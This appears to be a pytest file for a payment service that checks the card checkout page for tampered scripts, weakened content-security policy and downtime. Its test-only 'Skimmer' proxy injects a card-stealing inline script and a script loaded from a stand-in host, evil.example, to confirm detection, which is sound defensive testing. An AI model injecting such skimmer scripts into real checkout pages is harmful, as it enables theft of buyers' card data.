"""The look at a pay page, over real HTTP, at the page that a buyer with a card gets."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
import pytest
from django.utils import timezone

from seguripago.config.command_line_pay_page import take_inventory
from seguripago.foundations.page_guard.queries import looks
from seguripago.foundations.page_guard.rules import file_of
from seguripago.foundations.stores.queries import StoreView, store_by_id
from seguripago.jobs import pay_page
from seguripago.values.steps import Preference
from tests.shop.buyers import placed

pytestmark = pytest.mark.django_db(transaction=True)


@pytest.fixture
def store(live_server: Any, settings: Any) -> Iterator[StoreView]:
    """A store where somebody is about to pay with a card, served for real."""
    settings.SEGURIPAGO = replace(settings.SEGURIPAGO, base_url=live_server.url)
    order = placed(timezone.now(), preference=Preference.CARD)
    return store_by_id(order.store_id)


def codes(store: StoreView) -> list[str]:
    found = pay_page.look(store)
    assert found is not None
    return [each.code for each in found]


def test_the_page_as_it_is_has_no_finding_and_every_script_is_seen(store: StoreView) -> None:
    assert pay_page.look(store) == ()
    kept = looks(store.id)[0]
    assert not kept.findings
    files = {file_of(address): digest for address, digest in kept.scripts}
    assert {"page.js", "live.js", "card_form/card_form.js"} <= files.keys()
    assert all(digest.startswith("sha384-") for digest in files.values())
    assert pay_page.check(store.slug) == {"ok": True, "stores": {store.slug: []}}


def test_a_script_that_somebody_added_on_the_way_is_found(store: StoreView, settings: Any) -> None:
    with skimmed(settings.SEGURIPAGO.base_url) as between:
        settings.SEGURIPAGO = replace(settings.SEGURIPAGO, base_url=between)
        assert set(codes(store)) == {"inline_script", "unknown_script", "no_nonce"}
        assert pay_page.check(store.slug)["ok"] is False


def test_a_weaker_policy_is_found(store: StoreView, settings: Any) -> None:
    settings.SECURE_CSP = settings.SECURE_CSP | {"script-src": ["'self'", "https://cdn.example"]}
    assert "policy_changed" in codes(store)


def test_where_nobody_pays_with_a_card_there_is_nothing_to_look_at(live_server: Any, settings: Any) -> None:
    settings.SEGURIPAGO = replace(settings.SEGURIPAGO, base_url=live_server.url)
    order = placed(timezone.now())
    assert pay_page.look(store_by_id(order.store_id)) is None
    assert not looks(order.store_id)


def test_a_page_that_does_not_answer_is_a_finding(store: StoreView, settings: Any) -> None:
    settings.SEGURIPAGO = replace(settings.SEGURIPAGO, base_url="http://127.0.0.1:9")
    assert codes(store) == ["page_away"]


def test_the_inventory_is_of_the_scripts_that_there_are() -> None:
    """`seguripago pay-page inventory --write` puts the new hashes in; whoever reviews the change approves them."""
    assert take_inventory() == {"changed": [], "written": False}


class Skimmer(BaseHTTPRequestHandler):
    """What an intruder between shop and buyer does to a page."""

    shop = ""

    def do_GET(self) -> None:
        got = httpx.get(self.shop + self.path)
        stolen = b'<script>send(card)</script><script src="https://evil.example/s.js"></script></body>'
        body = got.content.replace(b"</body>", stolen) if "html" in got.headers["content-type"] else got.content
        self.send_response(got.status_code)
        for name, value in got.headers.items():
            if name not in {"content-length", "content-encoding", "connection", "date", "server"}:
                self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        """Say nothing."""


@contextmanager
def skimmed(shop: str) -> Iterator[str]:
    Skimmer.shop = shop
    with ThreadingHTTPServer(("127.0.0.1", 0), Skimmer) as between:
        threading.Thread(target=between.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{between.server_port}"
        between.shutdown()
